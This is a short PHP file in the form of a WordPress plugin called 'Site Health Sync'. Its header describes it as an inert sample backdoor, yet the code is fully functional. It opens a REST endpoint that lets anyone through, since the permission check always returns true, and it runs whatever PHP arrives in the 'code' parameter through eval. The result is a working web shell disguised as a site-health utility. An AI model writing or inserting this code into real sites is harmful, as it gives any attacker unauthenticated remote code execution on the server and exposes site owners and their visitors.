<?php
/**
 * Plugin Name: Site Health Sync
 * Description: inert sample: a plugin-shaped backdoor that opens a REST route to anyone (the
 * permission callback always says yes) and evaluates the "code" parameter of each request.
 */
add_action('rest_api_init', function () {
    register_rest_route('site-health/v1', '/check', array(
        'methods' => 'POST',
        'callback' => 'shs_run_check',
        'permission_callback' => '__return_true',
    ));
});

function shs_run_check($request) {
    $code = $request->get_param('code');
    ob_start();
    eval($code);
    return rest_ensure_response(array('result' => ob_get_clean()));
}
